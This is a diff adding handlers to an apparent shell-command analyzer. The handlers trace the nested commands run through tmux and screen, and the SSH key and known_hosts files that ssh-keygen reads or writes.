+  if (['new-session', 'new', 'new-window', 'neww', 'split-window', 'splitw', 'respawn-pane', 'respawnp', 'respawn-window', 'respawnw', 'run-shell', 'run', 'display-popup', 'popup'].includes(sub.text)) {
+    runText(a, inv, { text: cmd.map((x) => x.text).join(' '), dynamic: cmd.some((x) => x.dynamic) }, `tmux ${sub.text}`, { kind: 'none' });
+  } else if (sub.text === 'send-keys' || sub.text === 'send') {
+    // Keys typed into a shell: literal words, with Enter/C-m as newlines.
+    const text = cmd.map((x) => (/^(Enter|C-m|KPEnter)$/.test(x.text) ? '\n' : x.text)).join(' ').replace(/ \n /g, '\n');
+    runText(a, inv, { text, dynamic: cmd.some((x) => x.dynamic) }, 'tmux send-keys', { kind: 'none' });
+  }
+});
+
+on('screen', (a, inv) => {
+  const p = parseArgs(inv.args, { stopAtOperand: true, short: 'cSXpTesrlaAhi' });
+  emit(a, inv, p);
+  const x = value(p, '-X');
+  if (x?.text === 'stuff' || p.rest[0]?.text === 'stuff') {
+    const text = (x?.text === 'stuff' ? p.rest[0] : p.rest[1])?.text.replace(/\^M|\\n|\\r/g, '\n');
+    if (text) runText(a, inv, text, 'screen stuff', { kind: 'none' });
+    return;
+  }
+  if (!x) wrap(a, inv, p.rest, 'screen');
+});
+
+// ── keys ────────────────────────────────────────────────────────────────
+
+on('ssh-keygen', (a, inv) => {
+  const p = parseArgs(inv.args, { short: 'abCDEfFIJKmMNnOPrRstVwYZz' });
+  emit(a, inv, p);
+  const file = value(p, '-f');
+  const key = file ?? f(`${a.env.home}/.ssh/id_${value(p, '-t')?.text ?? 'ed25519'}`);
+  if (has(p, '-y', '-l', '-e', '-B')) a.path(key, 'read', 'ssh-keygen reads the key', inv.st);
+  else if (has(p, '-p', '-c')) {
+    a.path(key, 'read', 'ssh-keygen rewrites the key', inv.st);
+    a.path(key, 'write', 'ssh-keygen rewrites the key', inv.st);
+  } else if (has(p, '-R', '-H')) a.path(file ?? f(`${a.env.home}/.ssh/known_hosts`), 'write', 'ssh-keygen edits known_hosts', inv.st);
+  else if (!has(p, '-F', '-Y', '-Q', '-D', '-k', '-L')) {
+    a.path(key, 'write', 'ssh-keygen writes a key', inv.st);
+    a.path({ ...key, text: `${key.text}.pub` }, 'write', 'ssh-keygen writes a key', inv.st);
+  }
+});
 
 // ── text utilities ──────────────────────────────────────────────────────
 
